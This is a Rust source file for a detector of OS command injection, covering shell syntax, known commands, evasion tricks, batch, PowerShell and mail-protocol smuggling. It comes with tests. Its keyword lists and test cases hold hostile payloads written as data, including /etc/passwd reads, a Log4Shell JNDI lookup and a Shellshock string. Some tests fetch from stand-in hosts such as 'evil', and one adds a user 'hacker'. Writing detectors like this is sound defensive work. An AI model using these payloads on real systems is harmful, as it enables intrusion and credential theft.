@@ -1,0 +1,702 @@
+//! OS command injection, Unix and Windows: shell syntax that ordinary text never holds
+//! (`$(...)`, `${...}`, process substitution, brace expansion, globbed system paths, batch
+//! `FOR`/`IF`), and a known command where a shell would start one (after `;`, `|`, `&`, a
+//! newline, a backtick, or opening the value), read through the evasions shells undo: quotes
+//! and backslashes inside a word (`c''at`, `w\hoami`), empty expansions (`who$@ami`,
+//! `pi$()ng`), `${IFS}` for a space, and carets (`w^hoami`).
+
+use super::decode::{find_ci, is_word, starts_with_ci, Hit};
+
+pub(crate) fn check(v: &[u8], level: u8) -> Option<Hit> {
+    syntax(v, level).or_else(|| commands(v, level)).or_else(|| batch(v)).or_else(|| powershell(v)).or_else(|| {
+        if level >= 2 {
+            mail_protocol(v)
+        } else {
+            None
+        }
+    })
+}
+
+fn hit(level: u8, start: usize, end: usize, max: u8) -> Option<Hit> {
+    (level <= max).then(|| Hit::new(level, start, end))
+}
+
+/// Shell constructs with no reading as text.
+fn syntax(v: &[u8], level: u8) -> Option<Hit> {
+    let n = v.len();
+    for i in 0..n {
+        let next = v.get(i + 1).copied();
+        let end = (i + 24).min(n);
+        match (v[i], next) {
+            (b'$', Some(b'(')) | (b'$', Some(b'[')) => return hit(1, i, end, level),
+            (b'$', Some(b'{')) => {
+                let body = &v[i + 2..];
+                let close = body.iter().position(|&b| b == b'}').unwrap_or(body.len());
+                let inner = &body[..close];
+                // `${name}` is also every template language's placeholder; what shells alone do
+                // (IFS, operators inside, lookups like `${jndi:`) is an attack.
+                let plain = !inner.is_empty() && inner.iter().all(|&b| is_word(b) || b == b'.');
+                let shell_var = starts_with_ci(inner, b"ifs") || inner.eq_ignore_ascii_case(b"path") || inner.eq_ignore_ascii_case(b"home") || inner.eq_ignore_ascii_case(b"shell");
+                if !plain || shell_var {
+                    return hit(1, i, end, level);
+                }
+                return hit(2, i, end, level);
+            }
+            (b'$', Some(b'I' | b'i')) if starts_with_ci(&v[i + 1..], b"ifs") && v.get(i + 4).is_none_or(|&b| !is_word(b) || b.is_ascii_digit()) => {
+                return hit(1, i, end, level);
+            }
+            (b'$', Some(b'@' | b'*')) if i > 0 && v[i - 1].is_ascii_alphanumeric() => return hit(1, i - 1, end, level),
+            (b'<' | b'>', Some(b'(')) => return hit(1, i, end, level),
+            (b'(', _) => {
+                // `() {`: a function definition (Shellshock and friends).
+                let mut j = i + 1;
+                while j < n && v[j] == b' ' {
+                    j += 1;
+                }
+                if v.get(j) == Some(&b')') {
+                    j += 1;
+                    while j < n && v[j] == b' ' {
+                        j += 1;
+                    }
+                    if v.get(j) == Some(&b'{') {
+                        let lvl = if i == 0 || v[..i].iter().all(|b| b.is_ascii_whitespace()) { 1 } else { 2 };
+                        if let Some(h) = hit(lvl, i, (j + 16).min(n), level) {
+                            return Some(h);
+                        }
+                    }
+                }
+            }
+            (b'!', Some(b'-')) if v.get(i + 2).is_some_and(u8::is_ascii_digit) => return hit(1, i, end, level),
+            (b'~', Some(b'+' | b'-'))
+                if (i == 0 || v[i - 1].is_ascii_whitespace()) && v.get(i + 2).is_none_or(|b| b.is_ascii_digit() || b.is_ascii_whitespace() || *b == b'/') =>
+            {
+                return hit(1, i, end, level);
+            }
+            (b'{', _) => {
+                if let Some(close) = brace_expansion(&v[i..]) {
+                    return hit(1, i, i + close + 1, level);
+                }
+            }
+            (b'/', _) if i == 0 || matches!(v[i - 1], b' ' | b'\t' | b'=' | b';' | b'|' | b'&' | b'`' | b'(' | b'\'' | b'"' | b'\n') => {
+                if let Some(end) = globbed_system_path(&v[i..]) {
+                    return hit(1, i, i + end, level);
+                }
+            }
+            (b'`', _) => {
+                if let Some(h) = backticks(v, i, level) {
+                    return Some(h);
+                }
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+/// `{cat,/etc/passwd}`, `c{a,ou}t`, `{,ifconfig}`: a comma list in braces, no spaces, with a
+/// letter in it (not a JSON object, not a set of numbers). Returns the offset of `}`.
+fn brace_expansion(v: &[u8]) -> Option<usize> {
+    let close = v.iter().take(256).position(|&b| b == b'}')?;
+    let inner = &v[1..close];
+    let ok = inner.contains(&b',')
+        && inner.iter().any(u8::is_ascii_alphabetic)
+        && !inner.iter().any(|&b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b':' | b'{' | b'='));
+    ok.then_some(close)
+}
+
+/// System directories whose contents an attacker names with globs to dodge word filters.
+const SYSTEM_DIRS: &[&[u8]] = &[b"bin", b"sbin", b"etc", b"usr", b"dev", b"tmp", b"var", b"proc", b"lib", b"opt", b"root", b"home"];
+
+/// A path from the root with a glob (`?`, `*`, `[...]`) where a system directory or file name
+/// stands: `/???/b?n/c?t`, `/etc/pa[s]swd`, `/bi[n]/bash`. Returns the length of the path.
+fn globbed_system_path(v: &[u8]) -> Option<usize> {
+    let mut end = 0;
+    let mut depth = 0;
+    while end < v.len() {
+        let b = v[end];
+        match b {
+            b'[' => depth += 1,
+            b']' => depth = (depth as i32 - 1).max(0) as u32,
+            _ if depth > 0 => {}
+            b' ' | b'\t' | b'\n' | b'\'' | b'"' | b'=' | b'&' | b';' | b'|' | b'<' | b'>' | b'(' | b')' => break,
+            _ => {}
+        }
+        end += 1;
+    }
+    let path = &v[..end];
+    let has_glob = path.iter().enumerate().any(|(i, &b)| b == b'[' || b == b'*' || (b == b'?' && i > 0));
+    if !has_glob || path.len() < 4 {
+        return None;
+    }
+    // The first segment, up to the next `/` outside brackets.
+    let mut depth = 0;
+    let mut seg_end = path.len();
+    for (i, &b) in path.iter().enumerate().skip(1) {
+        match b {
+            b'[' => depth += 1,
+            b']' => depth = (depth as i32 - 1).max(0) as u32,
+            b'/' if depth == 0 => {
+                seg_end = i;
+                break;
+            }
+            _ => {}
+        }
+    }
+    let first = &path[1..seg_end];
+    if seg_end == path.len() {
+        return None;
+    }
+    SYSTEM_DIRS.iter().any(|d| glob_matches(first, d)).then_some(end)
+}
+
+/// Shell glob match of `pattern` against `name` (`?`, `*`, `[...]` with `!`/`^` and ranges);
+/// bounded by the pattern and name lengths (both short here).
+fn glob_matches(pattern: &[u8], name: &[u8]) -> bool {
+    if pattern.len() > 64 {
+        return false;
+    }
+    fn go(p: &[u8], n: &[u8], budget: &mut u32) -> bool {
+        *budget = budget.saturating_sub(1);
+        if *budget == 0 {
+            return false;
+        }
+        match p.first() {
+            None => n.is_empty(),
+            Some(b'*') => (0..=n.len()).any(|k| go(&p[1..], &n[k..], budget)),
+            Some(b'?') => !n.is_empty() && go(&p[1..], &n[1..], budget),
+            Some(b'[') => {
+                let Some(close) = p.iter().skip(2).position(|&b| b == b']').map(|c| c + 2) else {
+                    return !n.is_empty() && n[0] == b'[' && go(&p[1..], &n[1..], budget);
+                };
+                let Some(&c) = n.first() else { return false };
+                let mut set = &p[1..close];
+                let negate = matches!(set.first(), Some(b'!' | b'^'));
+                if negate {
+                    set = &set[1..];
+                }
+                let mut found = false;
+                let mut k = 0;
+                while k < set.len() {
+                    if k + 2 < set.len() && set[k + 1] == b'-' {
+                        found |= (set[k]..=set[k + 2]).contains(&c.to_ascii_lowercase());
+                        k += 3;
+                    } else {
+                        found |= set[k].eq_ignore_ascii_case(&c);
+                        k += 1;
+                    }
+                }
+                found != negate && go(&p[close + 1..], &n[1..], budget)
+            }
+            Some(&b) => !n.is_empty() && b.eq_ignore_ascii_case(&n[0]) && go(&p[1..], &n[1..], budget),
+        }
+    }
+    let mut budget = 4096;
+    go(pattern, name, &mut budget)
+}
+
+/// A backtick pair: empty inside a word (`pi``ng`), or holding a command.
+fn backticks(v: &[u8], open: usize, level: u8) -> Option<Hit> {
+    let close = v[open + 1..].iter().position(|&b| b == b'`').map(|c| open + 1 + c)?;
+    let inner = &v[open + 1..close];
+    if inner.is_empty() {
+        let in_word = open > 0 && v[open - 1].is_ascii_alphanumeric() || v.get(close + 1).is_some_and(u8::is_ascii_alphanumeric);
+        return if in_word { hit(1, open.saturating_sub(4), (close + 5).min(v.len()), level) } else { None };
+    }
+    let (word, _) = read_command(inner, 0);
+    match classify(&word.text()) {
+        Some(_) => hit(1, open, close + 1, level),
+        None => hit(3, open, close + 1, level),
+    }
+}
+
+/// A command word as a shell would see it once evasions are undone, lower-cased.
+struct Word {
+    buf: [u8; 40],
+    len: usize,
+    /// The word had quotes, backslashes, carets or empty expansions inside it.
+    evasive: bool,
+    /// It was reached through a path (`/bin/cat`).
+    pathed: bool,
+}
+
+impl Word {
+    fn text(&self) -> &[u8] {
+        let w = &self.buf[..self.len];
+        let base = w.iter().rposition(|&b| b == b'/' || b == b'\\').map_or(w, |p| &w[p + 1..]);
+        base.strip_suffix(b".exe").unwrap_or(base)
+    }
+}
+
+/// Reads a command word at `i` (after blanks); returns it and where it ended.
+fn read_command(v: &[u8], mut i: usize) -> (Word, usize) {
+    let mut w = Word { buf: [0; 40], len: 0, evasive: false, pathed: false };
+    while i < v.len() && matches!(v[i], b' ' | b'\t' | b'{' | b'(' | b'\'' | b'"' | 0x0b | 0x0c) {
+        i += 1;
+    }
+    loop {
+        if i >= v.len() {
+            break;
+        }
+        let b = v[i];
+        match b {
+            b'\'' | b'"' | b'\\' | b'^' => {
+                w.evasive |= w.len > 0 || matches!(b, b'\\' | b'^');
+                i += 1;
+            }
+            b'$' if matches!(v.get(i + 1), Some(b'@' | b'*')) => {
+                w.evasive = true;
+                i += 2;
+            }
+            b'$' if v.get(i + 1) == Some(&b'(') && v.get(i + 2) == Some(&b')') => {
+                w.evasive = true;
+                i += 3;
+            }
+            b'<' | b'>' if v.get(i + 1) == Some(&b'(') && v.get(i + 2) == Some(&b')') && w.len > 0 => {
+                w.evasive = true;
+                i += 3;
+            }
+            b'`' if v.get(i + 1) == Some(&b'`') => {
+                w.evasive = true;
+                i += 2;
+            }
+            b'/' => {
+                w.pathed = true;
+                if w.len < w.buf.len() {
+                    w.buf[w.len] = b'/';
+                    w.len += 1;
+                }
+                i += 1;
+            }
+            _ if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'+') => {
+                if w.len < w.buf.len() {
+                    w.buf[w.len] = b.to_ascii_lowercase();
+                    w.len += 1;
+                } else {
+                    // Longer than any command: not one.
+                    w.len = 0;
+                    while i < v.len() && !v[i].is_ascii_whitespace() {
+                        i += 1;
+                    }
+                    return (w, i);
+                }
+                i += 1;
+            }
+            _ => break,
+        }
+    }
+    (w, i)
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    /// A command name with no other common meaning.
+    Rare,
+    /// A command that is also a word of English or a language name: needs shell-looking
+    /// arguments before it counts.
+    Common,
+}
+
+fn classify(word: &[u8]) -> Option<Kind> {
+    if word.is_empty() {
+        return None;
+    }
+    // Versioned interpreters: python3.10, perl5, php8.2.
+    let stem_end = word.iter().position(|b| b.is_ascii_digit()).unwrap_or(word.len());
+    let stem = &word[..stem_end];
+    if stem_end < word.len() && matches!(stem, b"python" | b"perl" | b"php" | b"ruby" | b"lua" | b"node" | b"pip") {
+        return Some(Kind::Rare);
+    }
+    if word.starts_with(b"ansible") || word.starts_with(b"chef-") {
+        return Some(Kind::Rare);
+    }
+    let kind = match word {
+        b"whoami" | b"uname" | b"ifconfig" | b"ipconfig" | b"netstat" | b"nslookup" | b"wget" | b"curl" | b"netcat"
+        | b"nc" | b"ncat" | b"socat" | b"bash" | b"sh" | b"zsh" | b"ksh" | b"csh" | b"tcsh" | b"dash" | b"busybox"
+        | b"chmod" | b"chown" | b"chgrp" | b"mkfifo" | b"mknod" | b"useradd" | b"usermod" | b"adduser" | b"sudo"
+        | b"crontab" | b"systemctl" | b"iptables" | b"tcpdump" | b"nmap" | b"telnet" | b"scp" | b"sftp" | b"tftp"
+        | b"rsync" | b"base64" | b"xxd" | b"hexdump" | b"gawk" | b"awk" | b"sed" | b"grep" | b"egrep" | b"fgrep"
+        | b"xargs" | b"nohup" | b"setsid" | b"printenv" | b"ls" | b"lsof" | b"lsmod" | b"insmod" | b"modprobe"
+        | b"dmesg" | b"getent" | b"uptime" | b"lastlog" | b"htop" | b"killall" | b"pkill" | b"pgrep" | b"rmdir"
+        | b"mkdir" | b"bsdtar" | b"gzip" | b"gunzip" | b"zcat" | b"bzip2" | b"bunzip2" | b"bzcat" | b"unxz" | b"xzcat"
+        | b"zstd" | b"zstdcat" | b"unzip" | b"7z" | b"tac" | b"strings" | b"traceroute" | b"whois" | b"fdisk"
+        | b"shred" | b"visudo" | b"cscli" | b"aptitude" | b"apt-get" | b"yum" | b"dnf" | b"rpm" | b"dpkg" | b"strace"
+        | b"ltrace" | b"gdb" | b"openssl" | b"certutil" | b"bitsadmin" | b"powershell" | b"pwsh" | b"cmd" | b"regedit"
+        | b"mshta" | b"rundll32" | b"regsvr32" | b"wmic" | b"wscript" | b"cscript" | b"tasklist" | b"taskkill"
+        | b"systeminfo" | b"schtasks" | b"bcdboot" | b"bcdedit" | b"vssadmin" | b"wevtutil" | b"icacls" | b"cacls"
+        | b"nltest" | b"dsquery" | b"runas" | b"findstr" | b"msiexec" | b"installutil" | b"regasm" | b"msbuild"
+        | b"cmstp" | b"ncat.exe" | b"passwd" | b"ifup" | b"ifdown" | b"readelf" | b"objdump" | b"sysctl" | b"jexec"
+        | b"pkexec" | b"doas" | b"exiftool" | b"dig" | b"ps" | b"pwd" | b"env" | b"wc" | b"uniq" | b"nl"
+        | b"od" | b"unset" | b"chattr" | b"lsattr" | b"xterm" | b"gcc" | b"nproc" | b"lscpu" | b"lsblk" | b"arp" => {
+            Kind::Rare
+        }
+        b"cat" | b"more" | b"less" | b"head" | b"tail" | b"sort" | b"find" | b"time" | b"kill" | b"touch" | b"top"
+        | b"who" | b"which" | b"last" | b"make" | b"man" | b"cut" | b"date" | b"file" | b"join" | b"look" | b"mail"
+        | b"nice" | b"paste" | b"ping" | b"print" | b"printf" | b"read" | b"rev" | b"split" | b"tee" | b"test"
+        | b"wall" | b"watch" | b"write" | b"yes" | b"host" | b"set" | b"type" | b"copy" | b"start" | b"net" | b"dir"
+        | b"echo" | b"exec" | b"eval" | b"source" | b"export" | b"alias" | b"sleep" | b"mount" | b"ip" | b"ss"
+        | b"dd" | b"route" | b"apt" | b"su" | b"ln" | b"cp" | b"mv" | b"rm" | b"tr" | b"diff" | b"locate"
+        | b"whereis" | b"gem" | b"pip" | b"npm" | b"perf" | b"tar" | b"zip" | b"reg" | b"ftp" | b"ssh" | b"del"
+        | b"erase" | b"ren" | b"attrib" | b"sc" | b"at" | b"python" | b"perl" | b"php" | b"ruby" | b"lua" | b"node"
+        | b"nodejs" | b"java" | b"w" | b"id" | b"xz" | b"history" | b"chroot" | b"shutdown" | b"reboot" | b"halt"
+        | b"systemd" | b"lp" | b"users" | b"groups" | b"stat" | b"file.exe" => Kind::Common,
+        _ => return None,
+    };
+    Some(kind)
+}
+
+/// What follows a command word.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Follow {
+    /// Nothing (the value ends, perhaps after blanks).
+    End,
+    /// Another shell operator: `;`, `|`, `&`, a line break, a closing backtick or parenthesis.
+    Operator,
+    /// An argument only a shell would take: a flag, a path, a redirection, a variable, a quote.
+    ShellArgument,
+    /// A word after a blank, as in prose.
+    Word,
+    /// Punctuation glued to the word (`id,name`, `ls.txt`): not a command at all.
+    Other,
+}
+
+fn follow(v: &[u8], mut i: usize) -> Follow {
+    let start = i;
+    while i < v.len() && matches!(v[i], b' ' | b'\t') {
+        i += 1;
+    }
+    // `${IFS}` stands for the blank.
+    if v[i..].starts_with(b"${IFS}") || v[i..].starts_with(b"$IFS") {
+        return Follow::ShellArgument;
+    }
+    match v.get(i) {
+        None => Follow::End,
+        Some(b'\n' | b'\r') if v[i..].iter().all(u8::is_ascii_whitespace) => Follow::End,
+        Some(b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b')' | b'}') => Follow::Operator,
+        Some(b'>' | b'<' | b'\'' | b'"' | b'$' | b'~' | b'*' | b'%') => Follow::ShellArgument,
+        Some(b'-') if v.get(i + 1).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'-') => Follow::ShellArgument,
+        Some(b'/' | b'.' | b'\\') if i > start => Follow::ShellArgument,
+        // A drive: `c:\`, `C:/`.
+        Some(b) if b.is_ascii_alphabetic() && v.get(i + 1) == Some(&b':') && matches!(v.get(i + 2), Some(b'\\' | b'/')) => {
+            Follow::ShellArgument
+        }
+        Some(_) if i == start => Follow::Other,
+        _ => Follow::Word,
+    }
+}
+
+/// Known commands where a shell would start one.
+fn commands(v: &[u8], level: u8) -> Option<Hit> {
+    if let Some(h) = command_at(v, 0, 0, true, level) {
+        return Some(h);
+    }
+    let mut i = 0;
+    // Bounded: each iteration advances `i` by at least one byte.
+    while i < v.len() {
+        let separator_len = match (v[i], v.get(i + 1).copied()) {
+            (b';' | b'\n' | b'\r' | b'`', _) => 1,
+            (b'|', Some(b'|')) | (b'&', Some(b'&')) => 2,
+            (b'|' | b'&', _) => 1,
+            (b'$', Some(b'(')) => 2,
+            _ => {
+                i += 1;
+                continue;
+            }
+        };
+        if let Some(h) = command_at(v, i, separator_len, false, level) {
+            return Some(h);
+        }
+        i += separator_len;
+    }
+    None
+}
+
+fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: u8) -> Option<Hit> {
+    let (word, end) = read_command(v, at + separator_len);
+    let text = word.text();
+    let kind = classify(text)?;
+    let mut next = follow(v, end);
+    if next == Follow::Word && known_subcommand(text, &v[end..]) {
+        next = Follow::ShellArgument;
+    }
+    let lvl = match (at_start, kind, next) {
+        (_, _, Follow::Other) => return None,
+        (_, _, _) if word.evasive && word.len > 1 => 1,
+        (false, Kind::Rare, _) => 1,
+        (false, Kind::Common, Follow::Word) if !word.pathed => 2,
+        (false, Kind::Common, _) => 1,
+        (true, _, Follow::ShellArgument) => 1,
+        (true, _, Follow::Word) if word.pathed => 1,
+        (true, Kind::Rare, Follow::Word | Follow::Operator) if !is_interpreter(text) && !is_language(text) => 1,
+        (true, _, _) => 3,
+    };
+    (lvl <= level).then(|| Hit::new(lvl, at, (end + 24).min(v.len())))
+}
+
+/// Windows tools whose first argument is a verb of their own: `net user`, `reg add`.
+fn known_subcommand(command: &[u8], rest: &[u8]) -> bool {
+    let rest = rest.trim_ascii_start();
+    let word_end = rest.iter().position(|b| !b.is_ascii_alphanumeric()).unwrap_or(rest.len());
+    let sub = rest[..word_end].to_ascii_lowercase();
+    match command {
+        b"net" => matches!(sub.as_slice(), b"user" | b"localgroup" | b"group" | b"share" | b"use" | b"view" | b"session" | b"accounts" | b"config"),
+        b"reg" => matches!(sub.as_slice(), b"query" | b"add" | b"delete" | b"save" | b"export" | b"import"),
+        b"sc" => matches!(sub.as_slice(), b"query" | b"create" | b"config" | b"qc" | b"delete"),
+        _ => false,
+    }
+}
+
+/// Programming languages are also what people list as skills.
+fn is_language(w: &[u8]) -> bool {
+    matches!(w, b"python" | b"perl" | b"php" | b"ruby" | b"lua" | b"node" | b"nodejs" | b"java" | b"gcc")
+}
+
+fn is_interpreter(w: &[u8]) -> bool {
+    matches!(w, b"bash" | b"sh" | b"zsh" | b"ksh" | b"csh" | b"dash" | b"powershell" | b"pwsh" | b"cmd" | b"gcc" | b"awk" | b"sed")
+}
+
+/// Windows batch control flow: `FOR [/D|/R|/L|/F ...] %x IN (...) DO ...` and `IF [/I] [NOT]
+/// EXIST|DEFINED|ERRORLEVEL|CMDEXTVERSION ...` or `IF a==b ...`.
+fn batch(v: &[u8]) -> Option<Hit> {
+    let mut i = 0;
+    while i < v.len() {
+        let boundary = i == 0 || !is_word(v[i - 1]);
+        if boundary && (starts_with_ci(&v[i..], b"for") || starts_with_ci(&v[i..], b"if")) {
+            let kw_len = if starts_with_ci(&v[i..], b"for") { 3 } else { 2 };
+            let after = v.get(i + kw_len).copied();
+            if after.is_some_and(|b| b == b' ' || b == b'\t' || b == b'/' || b == b'(') {
+                let rest = &v[i + kw_len..v.len().min(i + 2048)];
+                let matched = if kw_len == 3 { batch_for(rest) } else { batch_if(rest) };
+                if matched {
+                    return Some(Hit::new(1, i, (i + 40).min(v.len())));
+                }
+            }
+        }
+        i += 1;
+    }
+    None
+}
+
+fn batch_for(rest: &[u8]) -> bool {
+    // Options, then `%var` (or `%%var`), then `in`, `(`, and later `do`.
+    let mut i = 0;
+    loop {
+        while i < rest.len() && rest[i].is_ascii_whitespace() {
+            i += 1;
+        }
+        if rest.get(i) == Some(&b'/') && rest.get(i + 1).is_some_and(u8::is_ascii_alphabetic) {
+            i += 2;
+            continue;
+        }
+        if rest.get(i) == Some(&b'"') {
+            let Some(close) = rest[i + 1..].iter().position(|&b| b == b'"') else { return false };
+            i += close + 2;
+            continue;
+        }
+        if i < rest.len() && !matches!(rest[i], b'%') && !rest[i].is_ascii_whitespace() {
+            // A drive or path after /R.
+            if rest[..i].iter().rev().find(|b| !b.is_ascii_whitespace()).is_some_and(|&b| b.eq_ignore_ascii_case(&b'r')) {
+                while i < rest.len() && !rest[i].is_ascii_whitespace() {
+                    i += 1;
+                }
+                continue;
+            }
+        }
+        break;
+    }
+    if rest.get(i) != Some(&b'%') {
+        return false;
+    }
+    let Some(in_at) = find_ci(rest, b" in", i) else { return false };
+    let after_in = &rest[in_at + 3..];
+    let paren = after_in.iter().position(|b| !b.is_ascii_whitespace());
+    paren.is_some_and(|p| after_in[p] == b'(') && find_ci(after_in, b"do", 0).is_some()
+}
+
+fn batch_if(rest: &[u8]) -> bool {
+    let words: Vec<&[u8]> = rest.split(|b| b.is_ascii_whitespace()).filter(|w| !w.is_empty()).take(8).collect();
+    let mut k = 0;
+    if words.get(k).is_some_and(|w| w.eq_ignore_ascii_case(b"/i")) {
+        k += 1;
+    }
+    if words.get(k).is_some_and(|w| w.eq_ignore_ascii_case(b"not")) {
+        k += 1;
+    }
+    let Some(cond) = words.get(k) else { return false };
+    if [&b"exist"[..], b"defined", b"errorlevel", b"cmdextversion"].iter().any(|kw| cond.eq_ignore_ascii_case(kw)) {
+        return words.len() > k + 1;
+    }
+    // A comparison: `a==b` in one word or `a == b`, or a comparison operator word, followed by
+    // something to do.
+    let cmp_ops: [&[u8]; 6] = [b"equ", b"neq", b"lss", b"leq", b"gtr", b"geq"];
+    words.iter().skip(k).take(4).enumerate().any(|(n, w)| {
+        let is_cmp = find_ci(w, b"==", 0).is_some() || (n > 0 && cmp_ops.iter().any(|op| w.eq_ignore_ascii_case(op)));
+        is_cmp && words.len() > k + n + 1
+    }) || rest.starts_with(b"/i ") && find_ci(rest, b"==", 0).is_some()
+}
+
+/// PowerShell: `Verb-Noun` cmdlets that fetch, run or write, and the shell itself with options.
+fn powershell(v: &[u8]) -> Option<Hit> {
+    const VERBS: &[&[u8]] = &[b"invoke-", b"start-", b"new-", b"get-", b"set-", b"out-", b"add-", b"remove-", b"stop-", b"import-", b"export-", b"convertto-", b"convertfrom-", b"copy-", b"move-"];
+    const NOUNS: &[&[u8]] = &[
+        b"webrequest", b"restmethod", b"expression", b"command", b"item", b"itemproperty", b"process", b"object",
+        b"content", b"childitem", b"service", b"wmiobject", b"ciminstance", b"file", b"type", b"executionpolicy",
+        b"mppreference", b"localuser", b"scheduledtask", b"module", b"securestring", b"bitstransfer", b"clixml",
+        b"psdrive", b"psession", b"pssession", b"nettcpconnection", b"history",
+    ];
+    let mut i = 0;
+    while i < v.len() {
+        if (i == 0 || !is_word(v[i - 1])) && v[i].is_ascii_alphabetic() {
+            for verb in VERBS {
+                if starts_with_ci(&v[i..], verb) {
+                    let rest = &v[i + verb.len()..];
+                    let noun_end = rest.iter().position(|&b| !b.is_ascii_alphanumeric()).unwrap_or(rest.len());
+                    let noun = &rest[..noun_end];
+                    if NOUNS.iter().any(|n| noun.eq_ignore_ascii_case(n)) {
+                        return Some(Hit::new(1, i, (i + verb.len() + noun_end).min(v.len())));
+                    }
+                }
+            }
+            if starts_with_ci(&v[i..], b"iex") && v.get(i + 3).is_some_and(|&b| b == b'(' || b == b' ') && i == 0 {
+                return Some(Hit::new(1, i, (i + 16).min(v.len())));
+            }
+        }
+        i += 1;
+    }
+    None
+}
+
+/// SMTP, IMAP and POP3 commands smuggled after a line break into a mail-sending parameter.
+fn mail_protocol(v: &[u8]) -> Option<Hit> {
+    const CMDS: &[&[u8]] = &[
+        b"mail from:", b"rcpt to:", b"ehlo ", b"helo ", b"data\r", b"data\n", b"auth ", b"retr ", b"list ", b"top ",
+        b"apop ", b"user ", b"pass ", b"dele ", b"stat\r", b"quit\r",
+    ];
+    const IMAP: &[&[u8]] = &[b"login", b"select", b"append", b"fetch", b"store", b"status", b"uid", b"authenticate", b"examine", b"search", b"capability", b"logout", b"delete", b"rename", b"copy", b"list"];
+    let mut i = 0;
+    while i < v.len() {
+        if v[i] == b'\n' || v[i] == b'\r' {
+            let mut j = i;
+            while j < v.len() && (v[j] == b'\r' || v[j] == b'\n') {
+                j += 1;
+            }
+            let line = &v[j..];
+            if CMDS.iter().any(|c| starts_with_ci(line, c)) {
+                return Some(Hit::new(2, j, (j + 24).min(v.len())));
+            }
+            // IMAP: a tag, then a command.
+            let tag_end = line.iter().position(|&b| b == b' ').unwrap_or(line.len());
+            if tag_end > 0 && tag_end < 12 && line[..tag_end].iter().all(u8::is_ascii_alphanumeric) {
+                let cmd = &line[(tag_end + 1).min(line.len())..];
+                if IMAP.iter().any(|c| starts_with_ci(cmd, c) && cmd.get(c.len()).is_none_or(|&b| !is_word(b))) {
+                    return Some(Hit::new(2, j, (j + 24).min(v.len())));
+                }
+            }
+            i = j;
+            continue;
+        }
+        i += 1;
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn cmdi(s: &str, level: u8) -> bool {
+        check(s.as_bytes(), level).is_some()
+    }
+
+    #[test]
+    fn ordinary_text_passes() {
+        for s in [
+            "Tom & Jerry",
+            "rock & roll; then more",
+            "drop me a line; I'll call",
+            "time is of the essence",
+            "ping pong tables",
+            "tar is a dark brown or black bituminous usually odorous viscous liquid",
+            "Some text (in brackets).",
+            "hello [text in brackets]",
+            "page[1]",
+            "take this math expression: 1[a/-1]",
+            "kills foo bar",
+            "python developer",
+            "The cat sat on the mat",
+            "R&D; cat food",
+            "{\"a\": 1, \"b\": 2}",
+            "{1,2,3}",
+            "Hello ${name}, welcome",
+            "a|b|c",
+            "if you want, call me",
+            "iffoo a==b foo",
+            "C:\\Windows\\System32\\ls",
+            "Get-Started guide",
+            "https://example.com/search?q=x&y=1",
+            "550e8400-e29b-41d4-a716-446655440000",
+            "12:30:45",
+            "job_title=head of",
+            "For the love of it, in (my) opinion do it",
+            "markdown with `code` inside",
+        ] {
+            assert!(!cmdi(s, 1), "{s}");
+        }
+    }
+
+    #[test]
+    fn injections_and_evasions_are_caught_at_paranoia_one() {
+        for s in [
+            ";id",
+            "; cat /etc/passwd",
+            "| cat /etc/passwd",
+            "&& whoami",
+            "x || ls -la",
+            "$(whoami)",
+            "`id`",
+            "1;c''at /etc/passwd",
+            ";w\\hoami",
+            ";who$@ami",
+            "x;cat${IFS}/etc/passwd",
+            "/???/b?n/c?t /etc/passwd",
+            "cat /etc/pa[s]swd",
+            "{cat,/etc/passwd}",
+            "${jndi:ldap://evil/x}",
+            "<(cat file)",
+            "() { :; }; /bin/bash -c id",
+            "ls -l /etc/passwd",
+            "& w^h^o^a^m^i",
+            "| dir c:\\",
+            "& net user hacker /add",
+            "Invoke-WebRequest http://example.com/x.ps1",
+            "powershell -enc AAAA",
+            "for /f %i in ('whoami') do echo %i",
+            "IF EXIST C:\\pagefile.sys CMD",
+            "if a==b foo",
+            "~+",
+            "!-1",
+            "pi``ng 127.0.0.1",
+            "python3.10 cmd",
+            "printf dW5hbWUgLWE=|base64 -d|sh",
+            "\nwget http://evil/x",
+        ] {
+            assert!(cmdi(s, 1), "{s}");
+        }
+    }
+
+    #[test]
+    fn mail_commands_after_a_line_break_count_from_paranoia_two() {
+        let s = "\r\nMAIL FROM:<a@b.com>";
+        assert!(!cmdi(s, 1));
+        assert!(cmdi(s, 2));
+    }
+
+    #[test]
+    fn globs_match_like_a_shell() {
+        assert!(glob_matches(b"???", b"bin"));
+        assert!(glob_matches(b"b[a-z]n", b"bin"));
+        assert!(glob_matches(b"[!q]tc", b"etc"));
+        assert!(glob_matches(b"*", b"usr"));
+        assert!(!glob_matches(b"??", b"bin"));
+        assert!(!glob_matches(b"[!e]tc", b"etc"));
+    }
+}
